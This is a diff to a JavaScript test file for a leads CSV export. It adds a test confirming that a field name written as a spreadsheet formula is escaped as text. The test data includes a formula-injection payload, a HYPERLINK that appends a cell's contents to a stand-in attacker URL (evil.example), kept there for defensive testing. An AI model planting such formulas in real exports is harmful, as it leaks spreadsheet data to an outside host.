@@ -39,4 +39,11 @@ describe('the leads CSV export', () => {
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"")"`);
     expect(csv).toContain(`'+15550001111`);
   });
+
+  it('keeps a field name a spreadsheet would run as a formula as text too (a journal from before unknown names were dropped)', () => {
+    const name = '=HYPERLINK("http://evil.example/?"&A2,"Open")';
+    const [header] = leadsCsv([lead('a', { [name]: 'x' })]).split('\n');
+    expect(header).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""Open"")"`);
+    expect(header).not.toMatch(/(^|,)"?=/);
+  });
 });
